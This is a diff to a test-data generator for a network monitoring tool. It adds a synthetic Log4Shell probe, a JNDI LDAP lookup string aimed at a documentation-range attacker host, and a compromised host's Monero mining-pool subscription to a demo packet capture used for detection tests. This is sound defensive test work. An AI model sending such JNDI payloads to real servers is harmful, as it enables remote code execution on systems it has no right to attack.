@@ -10,7 +10,8 @@ every machine, so tests can assert exact counts. Run with Debian's python
 Captures:
   demo       the sample shipped for the README's first command: a small cloud
              tenant's traffic (web, DNS, SSH, overlay tunnels, IPv6) plus an
-             SSH password-guessing run and a burst of spoofed SYNs
+             SSH password-guessing run, a burst of spoofed SYNs, a Log4Shell
+             probe and a mining pool connection
   tunnels    one TCP conversation inside each overlay Safeguard decodes:
              VXLAN, GENEVE, GRE (transparent Ethernet bridging), GRE with key,
              ERSPAN II and III, and QinQ-tagged frames
@@ -202,6 +203,14 @@ def gen_demo(rng):
         src = f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
         syn = IP(src=src, dst=web) / TCP(sport=rng.randrange(1024, 65536), dport=80, flags="S", seq=rng.randrange(1 << 32))
         pkts.append(stamp(eth(syn), clock.tick(0.0005)))
+    # A Log4Shell probe from the internet against the web server, and the
+    # bastion, compromised, joining a Monero mining pool.
+    log4shell = (b"GET /?q=${jndi:ldap://198.51.100.99:1389/a} HTTP/1.1\r\nHost: shop.example\r\n"
+                 b"User-Agent: ${jndi:ldap://198.51.100.99:1389/a}\r\n\r\n")
+    pkts += tcp_conversation(rng, clock, "203.0.113.77", web, 51515, 80, log4shell, b"HTTP/1.1 400 Bad Request\r\n\r\n")
+    subscribe = b'{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}\n'
+    pkts += tcp_conversation(rng, clock, bastion, "198.51.100.200", 43000, 3333, subscribe,
+                             b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}\n')
     # A handful of broken frames, as any real wire has.
     pkts += gen_malformed(random.Random(rng.random()))[:3]
     for p in pkts[-3:]:
